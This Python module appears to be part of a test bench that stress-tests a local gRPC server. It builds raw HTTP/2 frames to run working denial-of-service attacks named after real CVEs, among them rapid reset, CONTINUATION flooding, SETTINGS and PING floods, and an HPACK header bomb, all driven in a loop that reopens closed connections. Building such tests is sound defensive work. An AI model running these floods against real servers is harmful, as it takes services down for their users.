"""Attacks on a gRPC port with hand-made HTTP/2 frames, each of a kind that servers fell to before.

It speaks to 127.0.0.1 only. `http2_flood` has the client, and the flood of unfinished streams.
"""

from __future__ import annotations

import secrets
import ssl
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass

from bench.http2_flood import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2Connection,
    encode_headers,
    frame,
    request,
    wait_for_sockets,
)

_BURST_BYTES = 1 << 16
_CANCEL = struct.pack(">I", 0x8)
_BOMB_NAME, _BOMB_BYTES = b"x-bomb", 4000  # one entry fills the table of 4096 bytes
Burst = Callable[[Http2Connection, str], bytes]


def _stripe(name: str) -> bytes:
    return request(name, "0/2", secrets.token_hex(16))  # the other stripe never comes


def _stream(connection: Http2Connection, name: str) -> int:
    """An open stream of this connection, which is replaced when the server ends it."""
    return next(iter(connection.open_streams), 0) or connection.open_stream(_stripe(name))


def _reset(connection: Http2Connection, name: str) -> bytes:
    """Open streams and cancel each at once (CVE-2023-44487)."""
    frames, size = [], 0
    while size < _BURST_BYTES:
        number = connection.new_number()
        frames.append(frame(HEADERS, END_HEADERS, number, _stripe(name)))
        frames.append(frame(RST_STREAM, 0, number, _CANCEL))
        size += len(frames[-1]) + len(frames[-2])
    return b"".join(frames)


def _continuation(connection: Http2Connection, name: str) -> bytes:
    """Headers that never end (CVE-2024-27316 and others)."""
    fields = encode_headers([(f"x-{i}", "v" * 100) for i in range(100)])
    connection.reads = False  # no frame, also no acknowledgement, may interrupt headers
    if not connection.open_streams:
        connection.open_stream(_stripe(name), flags=0)
    return frame(CONTINUATION, 0, connection.open_streams[0], fields) * 5


def _settings(connection: Http2Connection, name: str) -> bytes:
    """Settings, each of which the server must acknowledge (CVE-2019-9515)."""
    return frame(SETTINGS, 0, 0) * (_BURST_BYTES // 9)


def _changing_settings(connection: Http2Connection, name: str) -> bytes:
    """Settings that change the window and the size of the header table every time."""
    values = [struct.pack(">HIHI", 0x1, size, 0x4, size) for size in (0, 65535)]
    return b"".join(frame(SETTINGS, 0, 0, value) for value in values) * (_BURST_BYTES // 42)


def _ping(connection: Http2Connection, name: str) -> bytes:
    """PINGs, each of which the server must answer (CVE-2019-9512)."""
    return frame(PING, 0, 0, bytes(8)) * (_BURST_BYTES // 17)


def _empty_data(connection: Http2Connection, name: str) -> bytes:
    """DATA frames without data, which flow control does not count (CVE-2019-9518)."""
    return frame(DATA, 0, _stream(connection, name)) * (_BURST_BYTES // 9)


def _window_update(connection: Http2Connection, name: str) -> bytes:
    """Window updates of one byte for a stream that waits."""
    update = struct.pack(">I", 1)
    return frame(WINDOW_UPDATE, 0, _stream(connection, name), update) * (_BURST_BYTES // 13)


def _header_bomb(connection: Http2Connection, name: str) -> bytes:
    """HPACK: one large field in the dynamic table, repeated by a byte each (CVE-2016-6581)."""
    length = bytes([0x7F]) + _hpack_integer(_BOMB_BYTES - 127)
    field = b"\x40" + bytes([len(_BOMB_NAME)]) + _BOMB_NAME + length + b"v" * _BOMB_BYTES
    block = _stripe(name) + field + b"\xbe" * 3900  # 0xbe: the newest field of the table
    return b"".join(frame(HEADERS, END_HEADERS, connection.new_number(), block) for _ in range(4))


def _hpack_integer(value: int) -> bytes:
    encoded = b""
    while value >= 128:
        encoded += bytes([value % 128 + 128])
        value //= 128
    return encoded + bytes([value])


def _large_headers(connection: Http2Connection, name: str) -> bytes:
    """Streams with as many headers as fit into a frame, which stay open."""
    fields = encode_headers([(f"x-{i}", "v" * 100) for i in range(140)])
    return b"".join(
        frame(HEADERS, END_HEADERS, connection.new_number(), _stripe(name) + fields)
        for _ in range(4)
    )


ATTACKS: dict[str, Burst] = {
    "rapid reset": _reset,
    "endless headers": _continuation,
    "settings": _settings,
    "changing settings": _changing_settings,
    "pings": _ping,
    "empty data": _empty_data,
    "window updates": _window_update,
    "header bomb": _header_bomb,
    "large headers": _large_headers,
}


@dataclass(frozen=True)
class AttackResult:
    """What an attack did."""

    sent: int  # bytes
    connections: int  # also those that replaced others which the server closed


def attack(
    kind: str,
    port: int,
    name: str,
    context: ssl.SSLContext | None,
    seconds: float,
    *,
    connections: int = 4,
    reads: bool = True,
    acknowledges: bool = True,
) -> AttackResult:
    """Attack until the seconds are over; connections that the server closes are replaced.

    Without `reads` the server's answers are never read, and without `acknowledges` the attack
    begins before the client has acknowledged the server's settings, which limit its headers.
    """
    burst = ATTACKS[kind]
    open_now: list[Http2Connection] = []
    sent = opened = 0
    until = time.monotonic() + seconds
    try:
        while time.monotonic() < until:
            open_now = [connection for connection in open_now if connection.is_open]
            with suppress(OSError):
                while len(open_now) < connections:
                    connection = Http2Connection(port, context, reads or acknowledges)
                    if acknowledges:
                        connection.acknowledge_settings()
                        connection.reads = reads
                    open_now.append(connection)
                    opened += 1
            for connection in open_now:
                if connection.unsent < _BURST_BYTES:
                    data = burst(connection, name)
                    connection.write(data)
                    sent += len(data)
                connection.pump()
            wait_for_sockets([connection for connection in open_now if connection.is_open])
    finally:
        for connection in open_now:
            connection.close()
    return AttackResult(sent, opened)
